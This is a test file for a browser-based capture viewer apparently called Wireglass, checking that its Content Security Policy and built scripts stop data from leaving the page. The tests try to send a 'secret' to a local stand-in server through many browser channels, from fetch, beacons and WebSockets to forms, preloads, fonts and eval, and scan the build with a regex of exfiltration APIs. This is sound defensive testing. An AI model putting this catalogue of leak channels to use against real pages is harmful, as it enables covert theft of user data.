// "Nothing leaves this page" is a property of the build, not a promise: these tests try to get something out.
import { cpSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { test } from "./harness.mjs";

// A server of another origin that accepts anything, and remembers it.
async function elsewhere() {
  const received = [];
  const server = createServer((request, response) => {
    received.push(request.url);
    response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" }).end();
  });
  await new Promise(done => server.listen(0, "127.0.0.1", done));
  return { url: `http://127.0.0.1:${server.address().port}/`, received, close: () => server.close() };
}

const attempt = url => fetch(url, { method: "POST", body: "secret" }).then(() => "sent", () => "blocked");

for (const [who, scope] of [["page", page => page], ["worker", page => page.workers()[0]]]) {
  test(`exfiltration blocked from the ${who}`, async ({ page, state, until, equal, expected }) => {
    const other = await elsewhere();
    expected(new RegExp(`^(request to ${other.url}|console: .*Content Security Policy)`));
    await state("ready");
    // Playwright hears of the worker a moment after the page does.
    await until("the worker", () => page.workers().length > 0);
    equal(await scope(page).evaluate(attempt, other.url), "blocked", "fetch");
    equal(other.received, [], "requests that arrived elsewhere");
    other.close();
  });
}

test("exfiltration blocked by every other door of the page", async ({ page, state, equal, until, expected }) => {
  const other = await elsewhere();
  expected(new RegExp(`^(request to ${other.url}|console: .*Content Security Policy|uncaught: .*Content Security Policy)`));
  await state("ready");
  await page.evaluate(url => {
    window.violations = [];
    addEventListener("securitypolicyviolation", event => violations.push(event.effectiveDirective));
    const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
    add("img", { src: url });
    add("script", { src: url });
    add("script", { textContent: "window.ran = true" });
    add("link", { rel: "stylesheet", href: url });
    add("iframe", { src: url });
    navigator.sendBeacon(url, "secret");
    new EventSource(url);
    try { new WebSocket(url.replace("http", "ws")); } catch { violations.push("connect-src"); }
    const form = document.createElement("form");
    form.action = url;
    document.body.append(form);
    form.submit();
  }, other.url);
  const doors = ["connect-src", "form-action", "frame-src", "img-src", "script-src-elem", "style-src-elem"];
  await until("a violation at every door", () => page.evaluate(doors => doors.every(door => violations.includes(door)), doors));
  equal(await page.evaluate(() => window.ran), undefined, "an inline script");
  equal(other.received, [], "requests that arrived elsewhere");
  other.close();
});

test("what is stopped is counted, and the page says that nothing was asked", async ({ page, state, until, equal, expected, drop, shot }) => {
  const other = await elsewhere();
  expected(new RegExp(`^(request to ${other.url}|console: .*Content Security Policy)`));
  await state("ready");
  await drop("main", "www/samples/shop.pcapng");
  await state("done");
  await until("the worker", () => page.workers().length > 0);
  await page.evaluate(attempt, other.url);
  for (const worker of page.workers()) await worker.evaluate(attempt, other.url);
  await page.click("#privacy-button");
  const counts = () => page.locator("#privacy .privacy-counts dd").allInnerTexts();
  await until("what was stopped, in the page and its worker", async () => Number((await counts())[1]) >= 2);
  equal((await counts())[0], "0", "requests to other hosts");
  await shot("privacy");
  equal(other.received, [], "requests that arrived elsewhere");
  other.close();
});

test("a request to another host would be counted", { serviceWorkers: "block" }, async ({ page, state, until, server, expected }) => {
  // The same page without its policy: the counter must not be one that cannot count.
  const other = await elsewhere();
  expected(new RegExp(`^request to ${other.url}`));
  const folder = mkdtempSync(join(tmpdir(), "wireglass-open-"));
  cpSync(realpathSync(server.folder), folder, { recursive: true });
  const file = join(folder, "index.html");
  writeFileSync(file, readFileSync(file, "utf8").replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ""));
  server.folder = folder;
  await page.goto(server.url + "?again");
  await state("ready");
  await until("the worker", () => page.workers().length > 0);
  await page.evaluate(attempt, other.url + "page");
  await until("one", async () => (await page.locator("#counted request-count").innerText()) === "1");
  await page.workers()[0].evaluate(attempt, other.url + "worker");
  await until("two", async () => (await page.locator("#counted request-count").innerText()) === "2");
  other.close();
  rmSync(folder, { recursive: true, force: true });
});

test("exfiltration blocked by the less known doors", async ({ page, state, equal, expected }) => {
  const other = await elsewhere();
  expected(new RegExp(`^(request to ${other.url}|console: |uncaught: .*)`));
  await state("ready");
  await page.evaluate(async url => {
    const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
    const quietly = async act => { try { await act(); } catch { /* As it should be. */ } };
    for (const rel of ["prefetch", "preload", "modulepreload", "icon", "manifest"]) add("link", { rel, href: url + rel, as: "image" });
    add("object", { data: url + "object" });
    add("embed", { src: url + "embed" });
    add("video", { src: url + "video", poster: url + "poster", autoplay: true });
    add("audio", { src: url + "audio", autoplay: true });
    add("div", { style: `background: url(${url}style)` });
    add("base", { href: url });
    await quietly(() => new FontFace("far", `url(${url}font)`).load());
    await quietly(() => import(url + "module.js"));
    await quietly(() => new Worker(url + "worker.js"));
    await quietly(() => new SharedWorker(url + "shared.js"));
    await quietly(() => { const request = new XMLHttpRequest(); request.open("POST", url + "xhr"); request.send("secret"); });
    await quietly(() => new WebTransport(url.replace("http:", "https:")).ready);
    await quietly(() => fetch(url + "blind", { mode: "no-cors", method: "POST", body: "secret", keepalive: true }));
    await quietly(() => (0, eval)(`fetch("${url}eval")`));
    await new Promise(done => setTimeout(done, 1000));
  }, other.url);
  equal(other.received, [], "requests that arrived elsewhere");
  equal(await page.evaluate(() => typeof RTCPeerConnection), "undefined", "a connection that no policy forbids");
  other.close();
});

// A policy cannot forbid a page to open another address. So the program must have no code that could.
test("the program has no other way out than fetch, and its own rest", async ({ equal }) => {
  const dist = fileURLToPath(new URL("../../dist/", import.meta.url));
  const glue = readdirSync(dist).filter(name => /^(app|worker|unpack)-[0-9a-f]+\.js$/.test(name));
  equal(glue.length, 3, "the programs' borders to the browser");
  for (const name of glue) {
    // But for the module's own rest, which lies beside it (scripts/rest.js).
    const text = readFileSync(dist + name, "utf8").replace("new XMLHttpRequest()", "").replace('request.open("GET", rest.address(), false)', "");
    equal(/address: \(\) => new URL\("(app|worker)-[0-9a-f]+_rest\.wasm", import\.meta\.url\)/.test(text), !name.startsWith("unpack"), `${name}, its rest`);
    equal(text.match(/RTCPeer|WebSocket|WebTransport|EventSource|sendBeacon|XMLHttpRequest|importScripts|\.submit\(|window\.open|(?<!wireglassPlot)\.open\(|\.assign\(|location\.replace|\.href = (?!getString.*download)/g), null, name);
  }
});

test("only the import page may ask other hosts, and that only by fetch", async ({ page, server, equal, expected }) => {
  const dist = fileURLToPath(new URL("../../dist/", import.meta.url));
  for (const name of readdirSync(dist).filter(name => name.endsWith(".html"))) {
    const policy = /Content-Security-Policy" content="([^"]*)"/.exec(readFileSync(dist + name, "utf8"))[1].split("; ");
    equal(policy[0], "default-src 'none'", `${name}, by default`);
    const connect = policy.find(part => part.startsWith("connect-src")) ?? "none";
    equal(connect, { "index.html": "connect-src 'self'", "import.html": "connect-src https: http:", "wireglass.html": "none" }[name], name);
    equal(policy.some(part => /\*|unsafe-inline|unsafe-eval'/.test(part.replace("'wasm-unsafe-eval'", ""))), false, `${name}, loopholes`);
  }
  const other = await elsewhere();
  expected(new RegExp(`^(request to ${other.url}|console: .*Content Security Policy)`));
  await page.goto(server.url + "import.html");
  await page.evaluate(async url => {
    const add = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
    add("img", { src: url });
    add("script", { src: url });
    add("iframe", { src: url });
    const form = document.createElement("form");
    form.action = url;
    document.body.append(form);
    form.submit();
    await new Promise(done => setTimeout(done, 500));
  }, other.url);
  equal(other.received, [], "requests that arrived elsewhere");
  equal(await page.evaluate(attempt, other.url), "sent", "what it is for");
  other.close();
});
